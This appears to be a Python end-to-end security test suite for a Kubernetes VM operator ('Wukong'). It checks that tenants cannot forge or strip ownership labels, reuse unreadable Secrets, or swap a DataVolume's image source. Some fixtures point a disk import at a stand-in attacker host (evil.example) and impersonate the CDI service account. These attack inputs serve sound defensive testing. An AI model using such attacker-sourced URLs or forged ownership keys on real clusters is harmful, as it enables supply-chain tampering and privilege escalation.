"""References and ownership, from the tenant's seat: what makes a volume a Wukong's cannot be forged, and a Secret
named in a Wukong must be one its author may read. The real API server refuses (deploy/rbac/ownership-guard.yaml,
the webhook's SubjectAccessReview); the tenant is a user bound to the built-in ``edit`` role only."""

from __future__ import annotations

import json
from typing import Any

import pytest

from devcluster import identities
from devcluster.backend import CDI_ACCOUNT, CDI_NAMESPACE, cdi_identity
from kubeclient.resources import DATA_VOLUMES as DATA_VOLUMES_RESOURCE
from kubeclient.resources import PVCS, SECRETS, VIRTUAL_MACHINES
from tests.e2e.security.conftest import Tenant
from tests.e2e.test_reconciler import wait_for_wukong
from tests.waiting import poll, wait_for_object
from wukong import api

RECONCILER = identities.username(identities.RECONCILER)
CDI = f"system:serviceaccount:{CDI_NAMESPACE}:{CDI_ACCOUNT}"
FORGED = "written only by the Wukong reconciler"
UID = "0b9f3c1e-6a55-4c1f-9b7e-4d0f1c2a3b4c"


def claim(namespace: str, name: str = "web-system", **metadata: Any) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "PersistentVolumeClaim",
        "metadata": {"name": name, "namespace": namespace, **metadata},
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}},
    }


def data_volume(namespace: str, name: str = "web-system", **metadata: Any) -> dict[str, Any]:
    return {
        "apiVersion": "cdi.kubevirt.io/v1beta1",
        "kind": "DataVolume",
        "metadata": {"name": name, "namespace": namespace, **metadata},
        "spec": {
            "source": {"http": {"url": "http://evil.example/quay.io/containerdisks/fedora:40"}},
            "storage": {"resources": {"requests": {"storage": "1Gi"}}},
        },
    }


def create(actor: Tenant, obj: dict[str, Any], user: str | None = None):
    args = ("create", "-f", "-", "-o", "json")
    if user is None:
        return actor.kubectl(*args, stdin=json.dumps(obj))
    return actor.cluster.kubectl(*args, "--as", user, stdin=json.dumps(obj), check=False)


@pytest.fixture(scope="module")
def guarded(cluster) -> None:
    """The reconciler's identity and its policies, the ownership guard in force (picked up asynchronously)."""
    identities.install(cluster, identities.RECONCILER)
    cluster.apply(cdi_identity())
    probe = claim("default", "ownership-probe", annotations={api.WUKONG_UID_ANNOTATION: UID})
    poll(
        lambda: (
            FORGED
            in cluster.kubectl("create", "--dry-run=server", "-f", "-", stdin=json.dumps(probe), check=False).stderr
        ),
        "the ownership guard to be in force",
        timeout=20,
        interval=0.2,
    )


pytestmark = pytest.mark.usefixtures("guarded")
DATA_VOLUMES = "datavolumes.cdi.kubevirt.io"


@pytest.fixture
def tenant(tenant: Tenant) -> Tenant:
    """The editor, also with what CDI's aggregated role gives every editor on a real cluster (devcluster installs
    CDI's CRD, not its roles): DataVolumes."""
    role = ("create", "role", "cdi-edit", "--verb=create,get,list,patch,update", f"--resource={DATA_VOLUMES}")
    tenant.cluster.kubectl(*role, "-n", tenant.namespace)
    binding = ("create", "rolebinding", "cdi-edit", "--role=cdi-edit", f"--user={tenant.user}")
    tenant.cluster.kubectl(*binding, "-n", tenant.namespace)
    poll(lambda: tenant.can("create", DATA_VOLUMES), "the tenant to create DataVolumes", 30, interval=0.2)
    return tenant


KEYS = [
    pytest.param({"annotations": {api.WUKONG_UID_ANNOTATION: UID}}, id="the-wukong-uid-annotation"),
    pytest.param({"labels": {api.WUKONG_LABEL: "web"}}, id="the-wukong-label"),
    pytest.param({"labels": {api.RELEASED_FROM_LABEL: "web", api.MANAGED_BY_LABEL: api.MANAGED_BY}}, id="released"),
]


@pytest.mark.parametrize("metadata", KEYS)
@pytest.mark.parametrize("build", [claim, data_volume], ids=["pvc", "data-volume"])
def test_a_tenant_cannot_create_a_volume_carrying_a_wukongs_ownership_keys(tenant, build, metadata):
    result = create(tenant, build(tenant.namespace, **metadata))
    assert result.returncode != 0, result.stdout
    assert FORGED in result.stderr and "ValidatingAdmissionPolicy" in result.stderr, result.stderr


def test_a_tenant_cannot_label_its_own_volume_into_a_wukong(tenant):
    assert create(tenant, claim(tenant.namespace)).returncode == 0
    result = tenant.kubectl("label", "pvc", "web-system", "-n", tenant.namespace, f"{api.RELEASED_FROM_LABEL}=web")
    assert result.returncode != 0 and FORGED in result.stderr, result.stderr
    result = tenant.kubectl(
        "annotate", "pvc", "web-system", "-n", tenant.namespace, f"{api.WUKONG_UID_ANNOTATION}={UID}"
    )
    assert result.returncode != 0 and FORGED in result.stderr, result.stderr
    assert tenant.kubectl("label", "pvc", "web-system", "-n", tenant.namespace, "team=web").returncode == 0


def test_a_tenant_cannot_take_the_ownership_keys_off_a_wukongs_volume_nor_change_them(tenant, admin, reconciler):
    namespace = tenant.namespace
    web = {
        "apiVersion": api.API_VERSION,
        "kind": api.KIND,
        "metadata": {"name": "web"},
        "spec": {"cpu": 1, "memory": "1Gi", "disks": [{"name": "system", "size": "1Gi"}]},
    }
    created = tenant.kubectl("apply", "-n", namespace, "-f", "-", stdin=json.dumps(web))
    assert created.returncode == 0, created.stderr
    wait_for_object(
        admin,
        PVCS,
        namespace,
        "web-system",
        lambda pvc: pvc and (pvc["metadata"].get("annotations") or {}).get(api.WUKONG_UID_ANNOTATION),
        "the reconciler's claim for the Wukong's disk",
    )
    for change in (f"{api.WUKONG_LABEL}-", f"{api.WUKONG_LABEL}=other", f"{api.RELEASED_FROM_LABEL}=web"):
        result = tenant.kubectl("label", "pvc", "web-system", "-n", namespace, change, "--overwrite")
        assert result.returncode != 0 and FORGED in result.stderr, result.stderr
    for change in (f"{api.WUKONG_UID_ANNOTATION}-", f"{api.WUKONG_UID_ANNOTATION}={UID}"):
        result = tenant.kubectl("annotate", "pvc", "web-system", "-n", namespace, change, "--overwrite")
        assert result.returncode != 0 and FORGED in result.stderr, result.stderr
    assert tenant.kubectl("label", "pvc", "web-system", "-n", namespace, "team=web").returncode == 0


def test_only_cdis_own_claim_for_a_data_volume_may_carry_the_keys_it_copies(tenant):
    """CDI copies a DataVolume's labels and annotations onto the claim it creates for it: allowed for CDI's account,
    for a claim controlled by a DataVolume of its name, at creation only."""
    keys = {"annotations": {api.WUKONG_UID_ANNOTATION: UID}, "labels": {api.WUKONG_LABEL: "web"}}
    owner = {
        "apiVersion": "cdi.kubevirt.io/v1beta1",
        "kind": "DataVolume",
        "name": "web-system",
        "uid": UID,
        "controller": True,
        "blockOwnerDeletion": True,
    }
    as_cdi = claim(tenant.namespace, ownerReferences=[owner], **keys)
    forged_by_tenant = create(tenant, as_cdi)
    assert forged_by_tenant.returncode != 0 and FORGED in forged_by_tenant.stderr, forged_by_tenant.stderr
    elsewhere = create(tenant, claim(tenant.namespace, "other", ownerReferences=[owner], **keys), CDI)
    assert elsewhere.returncode != 0 and FORGED in elsewhere.stderr, "not the claim of that DataVolume"
    unowned = create(tenant, claim(tenant.namespace, **keys), CDI)
    assert unowned.returncode != 0 and FORGED in unowned.stderr, "not a DataVolume's claim"
    made = create(tenant, as_cdi, CDI)
    assert made.returncode == 0, made.stderr


def test_a_data_volume_changed_to_another_source_never_reaches_the_vm(tenant, admin, reconciler):
    """The tenant edits the source of its Wukong's imported DataVolume (real CDI's webhook refuses a DataVolume spec
    change; devcluster has none, which stands for any path around it) before the VM exists: the volume no longer
    fits its disk, and the VM is never created with it."""
    namespace = tenant.namespace
    web = {
        "apiVersion": api.API_VERSION,
        "kind": api.KIND,
        "metadata": {"name": "web"},
        "spec": {
            "cpu": 1,
            "memory": "1Gi",
            "sshKeySecret": "web-keys",  # missing at first: the VM waits for it
            "disks": [{"name": "system", "size": "1Gi", "image": "docker://quay.io/containerdisks/fedora:40"}],
        },
    }
    created = tenant.kubectl("apply", "-n", namespace, "-f", "-", stdin=json.dumps(web))
    assert created.returncode == 0, created.stderr
    wait_for_object(
        admin,
        DATA_VOLUMES_RESOURCE,
        namespace,
        "web-system",
        lambda dv: dv and dv.get("status", {}).get("phase") == "Succeeded",
        "the import",
    )
    evil = {"spec": {"source": {"http": {"url": "http://evil.example/quay.io/containerdisks/fedora:40"}}}}
    patched = tenant.kubectl(
        "patch", "datavolume", "web-system", "-n", namespace, "--type=merge", "-p", json.dumps(evil)
    )
    assert patched.returncode == 0, patched.stderr
    wait_for_wukong(admin, namespace, "web", lambda s: _degraded(s, "VolumeImmutable"), "the volume judged unfit")
    admin.create(
        SECRETS, {"metadata": {"name": "web-keys", "namespace": namespace}, "stringData": {"key": "ssh-ed25519 AAAA"}}
    )
    said = wait_for_wukong(
        admin,
        namespace,
        "web",
        lambda s: "SSHKeySecretNotFound" not in str(s.get("conditions")) and s,
        "the Secret seen",
    )
    assert "nor is it attached to the VM" in _degraded(said, "VolumeImmutable")
    assert admin.list(VIRTUAL_MACHINES, namespace)[0] == [], "no VM was created with the volume"


def _degraded(current: dict[str, Any], reason: str) -> str | None:
    found = next((c for c in current.get("conditions") or [] if c["type"] == "Degraded"), {})
    return found.get("message") if found.get("reason") == reason or reason in found.get("message", "") else None


# -- sshKeySecret: only a Secret its author may read ----------------------------------------------------------------
def wukong_naming(secret: str) -> str:
    return json.dumps(
        {
            "apiVersion": api.API_VERSION,
            "kind": api.KIND,
            "metadata": {"name": "keyed"},
            "spec": {"cpu": 1, "memory": "1Gi", "sshKeySecret": secret, "disks": [{"name": "system", "size": "1Gi"}]},
        }
    )


@pytest.fixture
def wukongs_only(cluster, namespace, webhook) -> Tenant:
    """A user holding nothing but deploy/rbac/users.yaml's wukong-edit in the namespace: Wukongs, no Secret."""
    user = f"vm-user-{namespace}"
    cluster.kubectl("create", "rolebinding", "vm-user", "--clusterrole=wukong-edit", f"--user={user}", "-n", namespace)
    who = Tenant(cluster, namespace, user)
    poll(lambda: who.can("create"), f"{user} to create Wukongs", 30, interval=0.2)
    assert not who.can("get", "secrets"), "the user must not read Secrets for this test to mean anything"
    return who


def test_a_user_who_may_not_read_a_secret_cannot_have_it_copied_into_a_vm(wukongs_only, admin):
    namespace = wukongs_only.namespace
    for name, type_ in (("deployer-token", "Opaque"), ("web-keys", "Opaque")):
        admin.create(
            SECRETS, {"metadata": {"name": name, "namespace": namespace}, "type": type_, "stringData": {"k": "v"}}
        )
    result = wukongs_only.kubectl(
        "create", "--dry-run=server", "-n", namespace, "-f", "-", stdin=wukong_naming("deployer-token")
    )
    assert result.returncode != 0, result.stdout
    assert 'spec.sshKeySecret: Forbidden: you may not read Secret "deployer-token"' in result.stderr, result.stderr


def test_a_user_who_may_read_the_secret_names_it(tenant):
    """The built-in edit role reads the namespace's Secrets: naming one gains it nothing, and is allowed."""
    tenant.cluster.kubectl(
        "create", "secret", "generic", "web-keys", "-n", tenant.namespace, "--from-literal=key=ssh-ed25519 AAAA"
    )
    result = tenant.kubectl(
        "create", "--dry-run=server", "-n", tenant.namespace, "-f", "-", stdin=wukong_naming("web-keys")
    )
    assert result.returncode == 0, result.stderr
